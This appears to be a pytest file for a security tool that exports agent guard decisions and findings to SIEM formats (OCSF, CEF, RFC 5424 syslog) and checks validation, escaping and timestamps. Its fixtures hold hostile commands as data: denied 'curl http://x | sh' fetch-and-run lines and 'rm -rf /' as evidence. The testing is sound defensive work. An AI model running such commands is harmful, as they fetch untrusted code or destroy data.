"""SIEM formats by their specs (guide E4.3): OCSF 1.5.0 validated with a library that carries the schema
(ocsf-emitter), CEF escaping and field mapping, RFC 5424 PARAM-NAME/PARAM-VALUE rules, event time preserved."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from clawfence.core.model import Finding, Location, Severity, Status
from clawfence.trail import detections as detect
from clawfence.trail import siem, timeline

oe = pytest.importorskip("ocsf_emitter")
from ocsf_emitter import _models as ocsf_models  # noqa: E402  (the library's pydantic models of OCSF 1.5.0)

FIX = Path(__file__).resolve().parents[1] / "fixtures" / "trail"
_CLASS = {2004: ocsf_models.DetectionFinding, 2003: ocsf_models.ComplianceFinding, 6003: ocsf_models.ApiActivity}


#: OCSF 1.5.0 severity_id captions, from the library's ``Severity`` enum (ids 0-6 in declaration order).
_SEV_CAPTION = {i: m.name.title() for i, m in enumerate(oe.Severity)}


def validate_ocsf(doc: dict[str, object]) -> None:
    """Schema + invariants (ocsf-emitter), plus what the library leaves out: the ``severity`` caption matches
    ``severity_id``, ``type_name`` is "<class>: <activity>", and no top-level attribute the class lacks."""
    cls = _CLASS[int(doc["class_uid"])]  # type: ignore[call-overload]
    oe.validate(cls.model_validate(doc))
    unknown = set(doc) - set(cls.model_fields)
    assert not unknown, f"attributes not in OCSF class {cls.__name__}: {unknown}"
    assert doc["severity"] == _SEV_CAPTION[int(doc["severity_id"])], doc["severity"]  # type: ignore[call-overload]
    assert doc["type_name"] == f"{doc['class_name']}: {doc['activity_name']}"


def _all_items() -> list[siem.Item]:
    items: list[siem.Item] = []
    for era in ("db-era", "file-era"):
        tr = timeline.load(FIX / era, log_paths=[FIX / "logs" / "openclaw-2026-11-21.log"])
        items += [siem.from_finding(f) for f in detect.detect(tr, detect.Options())]
        items += [siem.from_event(e) for s in tr.sessions for e in s.events]
        items += [siem.from_event(e) for e in tr.audit + tr.logs]
    items.append(siem.from_record({"seq": 7, "ts": "2026-11-21T06:00:00+00:00", "type": "guard.decision",
                                   "hash": "ab" * 32, "data": {"decision": "deny", "tool": "exec", "rule": "PG004",
                                                                "command": "curl http://x | sh"}}))
    items.append(siem.from_record({"seq": 8, "ts": "2026-11-21T06:00:01+00:00", "type": "guard.decision",
                                   "data": {"decision": "allow", "tool": "read", "path": "README.md"}}))
    return items


def test_every_ocsf_event_is_valid() -> None:
    items = _all_items()
    assert len(items) > 30
    kinds = set()
    for it in items:
        doc = json.loads(next(siem.render([it], "ocsf")))
        validate_ocsf(doc)
        kinds.add(doc["class_uid"])
    assert kinds == {2004, 6003}


def test_ocsf_validation_can_fail() -> None:
    doc = siem.to_ocsf(siem.from_record({"seq": 1, "ts": "2026-11-21T06:00:00+00:00", "type": "guard.decision",
                                         "data": {"decision": "deny", "tool": "exec"}}))
    for broken in ({**doc, "severity": "Info"}, {k: v for k, v in doc.items() if k != "src_endpoint"},
                   {**doc, "type_uid": 600301}):
        with pytest.raises(Exception):  # noqa: B017  (pydantic ValidationError or InvalidFindingError)
            validate_ocsf(broken)


def test_event_time_is_kept_not_export_time() -> None:
    tr = timeline.load(FIX / "file-era")
    findings = detect.detect(tr, detect.Options())
    assert findings and all(f.observed_at for f in findings)
    f = findings[0]
    event_ms = int(datetime.fromisoformat(f.observed_at or "").timestamp() * 1000)
    it = siem.from_finding(f, now=datetime(2030, 1, 1, tzinfo=UTC))
    assert siem.to_ocsf(it)["time"] == event_ms
    assert f"rt={event_ms}" in siem.to_cef(it)
    assert siem.to_syslog(it).split()[1].startswith(f.observed_at[:19])  # type: ignore[index]
    rec = siem.from_record({"seq": 1, "ts": "2026-11-21T06:00:00+00:00", "type": "t", "data": {}})
    assert siem.to_ocsf(rec)["time"] == int(datetime(2026, 11, 21, 6, tzinfo=UTC).timestamp() * 1000)


def _finding(detail: str = "a|b=c\\d\r\nnext", subject: str = "s") -> Finding:
    return Finding(id="TR001", title="Dangerous | command\r\nX", severity=Severity.HIGH, status=Status.FAIL,
                   detail=detail, subject=subject, location=Location(path="/x/s.jsonl", line=3), guide=("D3.2",),
                   remediation="r", cwe=("CWE-78",), evidence="rm -rf /", observed_at="2026-11-21T05:35:46+00:00")


CEF_RE = re.compile(r"^CEF:0(\|(?:[^|\\\r\n]|\\[|\\])*){6}\|(?P<ext>.*)$")


def _cef_ext(line: str) -> dict[str, str]:
    m = CEF_RE.match(line)
    assert m, line
    ext = m.group("ext")
    keys = list(re.finditer(r"(?:^| )([A-Za-z0-9_]+)=", ext))
    out = {}
    for a, b in zip(keys, [*keys[1:], None], strict=False):
        raw = ext[a.end(): b.start() if b else len(ext)]
        assert re.search(r"(?<!\\)=", raw) is None, f"unescaped = in {a.group(1)}: {raw!r}"
        out[a.group(1)] = re.sub(r"\\(.)", lambda m: {"n": "\n", "r": "\r"}.get(m.group(1), m.group(1)), raw)
    return out


def test_cef_header_and_extension_escaping() -> None:
    line = siem.to_cef(siem.from_finding(_finding()), hostname="gw-01")
    assert "\r" not in line and "\n" not in line
    assert line.split("|")[0] == "CEF:0" and "Dangerous \\| command  X" in line
    ext = _cef_ext(line)
    assert ext["msg"].endswith("a|b=c\\d\r\nnext") or "a|b=c\\d" in ext["msg"]
    assert ext["dvchost"] == "gw-01" and ext["externalId"] == "TR001" and ext["filePath"] == "/x/s.jsonl"
    assert ext["cs2Label"] == "fingerprint" and len(ext["cs2"]) == 16
    assert ext["cs3Label"] == "guide" and ext["cs3"] == "D3.2" and ext["flexString2"] == "CWE-78"


def test_cef_keeps_tool_fingerprint_and_every_field() -> None:
    it = siem.from_record({"seq": 9, "ts": "2026-11-21T06:00:00+00:00", "type": "guard.decision", "hash": "cd" * 32,
                           "data": {"decision": "deny", "tool": "exec", "rule": "PG004", "agent": "main",
                                    "session_key": "agent:main:main", "command": "curl x | sh", "weird key": "v"}})
    ext = _cef_ext(siem.to_cef(it, hostname="h"))
    assert ext["act"] == "deny" and ext["requestClientApplication"] == "exec" and ext["cn1"] == "9"
    assert ext["cs6"] == "PG004" and ext["cs1"] == "agent:main:main" and ext["fileHash"] == "cd" * 32
    assert "curl x | sh" in ext["msg"] and "weird key" in ext["msg"]  # no field dropped


def test_cef_over_network_has_a_syslog_header() -> None:
    it = siem.from_finding(_finding())
    line = next(siem.render([it], "cef", network=True, hostname="gw-01"))
    assert re.match(r"^<\d+>1 2026-11-21T05:35:46\.000000Z gw-01 clawfence - cef - CEF:0\|", line), line


SD_RE = re.compile(r'\[clawfence@32473((?: [!-~]{1,32}="(?:[^"\\\]]|\\.)*")+)\]')


def test_rfc5424_names_values_and_one_line() -> None:
    it = siem.Item("event", "tool_call", "info", datetime(2026, 11, 21, 6, tzinfo=UTC), "line1\nline2 ünïcode",
                   {"名前": "x", "with space": "y", "a" * 40: "1", "a" * 39 + "b": "2", "multi": "p\nq]\"r\\"})
    line = siem.to_syslog(it, hostname="gw 01")
    assert "\n" not in line and "\r" not in line
    hdr = line.split(" ", 6)
    assert hdr[0] == "<110>1" and hdr[2] == "gw_01" and hdr[3] == "clawfence" and hdr[5] == "event"
    m = SD_RE.search(line)
    assert m, line
    names = re.findall(r' ([!-~]{1,32})="', m.group(1))
    assert len(names) == len(set(names)) == 8  # class, name, severity + 5 fields, none dropped or merged
    for n in names:
        assert re.fullmatch(r'[!-~]{1,32}', n) and not set(n) & set('= ]"')
    assert r'multi="p\nq\]\"r\\"' in line
    assert line.endswith("\ufeffline1 line2 ünïcode")  # non-ASCII MSG carries the BOM (RFC 5424 6.4)
